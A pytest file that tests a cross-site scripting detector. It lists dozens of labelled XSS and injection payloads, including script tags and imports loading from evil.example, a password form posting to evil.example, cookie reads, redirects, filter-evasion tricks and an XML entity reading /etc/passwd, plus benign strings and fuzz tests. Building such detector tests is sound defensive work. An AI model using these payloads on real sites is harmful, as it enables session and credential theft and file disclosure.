import pytest
from hypothesis import given
from hypothesis import strategies as st

from bavn.payloads.markup import cross_site_scripting

ATTACKS = {
    "a script": ("<script>alert(1)</script>", "script-tag"),
    "a script from elsewhere": ("<SCRIPT/SRC=//evil.example/x.js>", "script-tag"),
    "a script with a namespace": ("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>", "script-tag"),
    "a script with junk": ("<\x0bscript x>", "script-tag"),
    "junk and a namespace": ("< x: script", "script-tag"),
    "the end of one": ("</script>", "script-tag"),
    "a frame": ("<iframe src=//evil.example>", "loading-tag"),
    "an object": ('<object data="//evil.example">', "loading-tag"),
    "a base": ("<base href=//evil.example/>", "loading-tag"),
    "a form": ('<form action="//evil.example"><input name=password>', "loading-tag"),
    "a refresh": ('<meta http-equiv="refresh" content="0;url=//evil.example">', "loading-tag"),
    "a document in an attribute": ("<iframe srcdoc=x", "loading-tag"),
    "a button elsewhere": ("<button formaction=//evil.example>", "loading-tag"),
    "a handler": ("<img src=x onerror=alert(1)>", "event-handler"),
    "a handler in any tag": ("<x onclick=alert(1)>", "event-handler"),
    "a handler without spaces": ("<svg/onload=alert(1)//", "event-handler"),
    "a handler nobody knows yet": ("<x onbeforehellfreezes=alert(1)>", "event-handler"),
    "a handler behind a quote": ('" onmouseover="x', "event-handler"),
    "a handler behind a quote that is closed": ('"/onfocus=x autofocus', "event-handler"),
    "a handler without a quote": ("x onerror=x", "event-handler"),
    "a handler behind a quote that hides": ("<a title='>' onclick=x>", "event-handler"),
    "an address": ("javascript:alert(1)", "script-address"),
    "an address with tabs": ("java\tscript\n:x=1", "script-address"),
    "an address in a link": ("<a href='javascript:x'>", "script-address"),
    "an address after a control character": ("<a href=\x01javascript:x>", "script-address"),
    "Visual Basic": ("vbscript:msgbox(1)", "script-address"),
    "a document of data": ("data:text/html;base64,PHNjcmlwdD4=", "script-address"),
    "an image of data that may hold script": ("<embed/x src='data:image/svg+xml;base64,AAAA'", "loading-tag"),
    "a style that is script": ("<div style='width:expression(x)'>", "style-script"),
    "a comment in it": ("<div style='width:expr/**/ession(x)'>", "style-script"),
    "escapes in it": (r"<div style='width:\65xpression(x)'>", "style-script"),
    "a binding": ("<x style=-moz-binding:url(//evil.example)>", "style-script"),
    "a sheet": ("<style>@import'//evil.example'</style>", "style-script"),
    "out of a string": ("';alert(1)//", "script-call"),
    "out of another": ('"-alert(1)-"', "script-call"),
    "a comment before the bracket": ("alert/*x*/(1)", "script-call"),
    "a template in place of brackets": ("alert`1`", "script-call"),
    "a call by another name": ("confirm.call(null,1)", "script-call"),
    "a name in brackets": ("(alert)(1)", "script-call"),
    "a name in a string": ("self['alert'](1)", "script-object"),
    "a name in pieces": ("top['al'+'ert'](1)", "script-object"),
    "a name handed on": ("[1].find(alert)", "script-call"),
    "a name worked out": ("this[/al/.source+/ert/.source](1)", "script-object"),
    "a handler of the window": ("{onerror=alert}throw 1", "event-handler"),
    "a module from elsewhere": ("import('//evil.example/x')", "script-call"),
    "a tagged template": ("[].sort.call`${alert}1`", "script-call"),
    "numbers for letters": ("eval(String.fromCharCode(97))", "script-call"),
    "a cookie": ("'+document.cookie+'", "script-object"),
    "a cookie by name": ("document['cookie']", "script-object"),
    "another page": ("window.location='//evil.example'", "script-object"),
    "out of a text field": ("</textarea><img src=x>", "raw-text-break-out"),
    "letter by letter": ("<s c r i p t", "spelled-tag"),
    "Angular": ("{{constructor.constructor('alert(1)')()}}", "script-call"),
    "Angular without a call": ("{{x.constructor.y}}", "client-template"),
    "an entity": ('<!ENTITY x SYSTEM "file:///etc/passwd">', "xml-entity"),
    "a document type": ("<!DOCTYPE x [<!ENTITY y 'z'>]>", "xml-entity"),
    "UTF-7": ("+ADw-script+AD4-alert+ACg-1)", "utf-7"),
    "no letters": ("[][(![]+[])[+[]]]", "jsfuck"),
}


@pytest.mark.parametrize(("text", "because"), ATTACKS.values(), ids=ATTACKS)
def test_what_a_browser_would_run_is_found(text: str, because: str) -> None:
    assert cross_site_scripting(text) == because


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a < b",
        "i <3 you",
        "if x<y and y>z",
        "if (a < b && b > c) return a;",
        "vector<int> v; map<string, object> m",
        "Anna <anna@example.com>",
        "<b>bold</b> and <i>leaning</i>",
        '<a href="https://www.example.com/">a link</a>',
        '<img src="cat.png" alt="cat">',
        "the <script element",
        "onclick handlers explained",
        "set onclick to a function",
        "status online=true",
        "please confirm (yes/no)",
        "alert (see below)",
        "the alert(s) of today",
        "a prompt(ed) answer",
        "JavaScript: The Good Parts",
        "learn java script: the basics",
        "javascript:void(0)",
        "javascript:;",
        "javascript:history.back()",
        "how to use window.location in react",
        "what is document.cookie and how is it read",
        "data:image/png;base64,iVBORw0KGgo=",
        "[link](https://www.example.com/)",
        "[![](https://www.example.com/badge)](https://www.example.com/)",
        "`setTimeout` and `setInterval`",
        "call `stream.write(x)` or `eval()`",
        "const onopen = (error) => {",
        "self.write(data) and self.name",
        "v8::Local<v8::Object> exports; Local<v8::Script> s",
        "setTimeout(() => { x += 1 }, 100)",
        '{"a":[],"b":[[]]}',
        "color: red; background: url(/img/bg.png)",
        "1alert(1)",
        "https://www.example.com/?a=b&c=d#e",
        "{{name}}",
        "½ liter og ¼ kg",
        "A --> B",
        "<!-- a comment -->",
    ],
)
def test_what_no_browser_would_run_is_left_alone(text: str) -> None:
    expected = "script-tag" if text == "the <script element" else None
    assert cross_site_scripting(text) == expected


@given(st.text(max_size=300))
def test_no_text_is_refused(text: str) -> None:
    cross_site_scripting(text)


@given(st.lists(st.sampled_from([*"<>\"'`=(){}[]/\\:;!+", " on", "alert", "javascript:", "style", "<svg", "data:"])))
def test_no_markup_is_refused(pieces: list[str]) -> None:
    cross_site_scripting("".join(pieces))
